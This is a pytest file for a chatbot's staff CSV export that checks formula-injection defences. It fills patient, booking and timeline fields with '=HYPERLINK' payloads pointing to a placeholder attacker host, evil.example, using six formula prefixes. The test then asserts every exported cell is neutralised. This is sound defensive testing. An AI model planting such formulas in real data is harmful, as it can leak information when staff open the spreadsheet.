"""Issue 23, medium: no cell of a staff export runs as a spreadsheet formula."""
from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest

from bot.staff import export

PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def hostile(prefix: str, what: str) -> str:
    return f'{prefix}HYPERLINK("http://evil.example/?{what}","click")'


def conversation(prefix: str) -> dict:
    request = {"reference": hostile(prefix, "ref"), "kind": hostile(prefix, "kind"),
               "status": hostile(prefix, "status"), "name": hostile(prefix, "name"),
               "contact": hostile(prefix, "contact"), "preferred_time": hostile(prefix, "time"),
               "triage_level": hostile(prefix, "level"), "created_at": datetime(2026, 1, 1),
               "status_changed_at": None, "status_changed_by": hostile(prefix, "by")}
    return {
        "conversation_id": hostile(prefix, "id"), "started_at": datetime(2026, 1, 1),
        "last_at": datetime(2026, 1, 2), "triage_level": hostile(prefix, "level"),
        "language": hostile(prefix, "language"),
        "red_flags": [hostile(prefix, "flag1"), hostile(prefix, "flag2")],
        "pain_location": hostile(prefix, "location"),
        "pain_duration_weeks": hostile(prefix, "weeks"),
        "duration_category": hostile(prefix, "category"),
        "treatments_tried": [hostile(prefix, "treatment")], "peg_score": hostile(prefix, "peg"),
        "booked": hostile(prefix, "booked"), "bookings": [request, dict(request)],
        "timeline": [
            {"kind": "patient", "at": datetime(2026, 1, 1), "text": hostile(prefix, "said")},
            {"kind": "assistant", "at": datetime(2026, 1, 1), "text": hostile(prefix, "bot")},
            {"kind": "slot", "at": datetime(2026, 1, 1), "name": hostile(prefix, "slot"),
             "value": hostile(prefix, "value")},
            {"kind": "event", "at": datetime(2026, 1, 1), "name": hostile(prefix, "event")},
        ],
    }


def inert(cell: str) -> bool:
    return not cell.startswith(PREFIXES + ("\n",))


@pytest.mark.parametrize("prefix", PREFIXES, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_every_exported_cell_with_a_formula_prefix_is_inert(prefix):
    item = conversation(prefix)
    for text in (export.list_csv([item]), export.conversation_csv(item)):
        rows = list(csv.reader(io.StringIO(text)))
        cells = [cell for row in rows[1:] for cell in row]
        hostile_cells = [c for c in cells if "HYPERLINK" in c]
        assert hostile_cells, "the hostile values are exported"
        assert all(inert(c) for c in cells), [c for c in cells if not inert(c)]
        assert all(c.startswith("'") for c in hostile_cells)
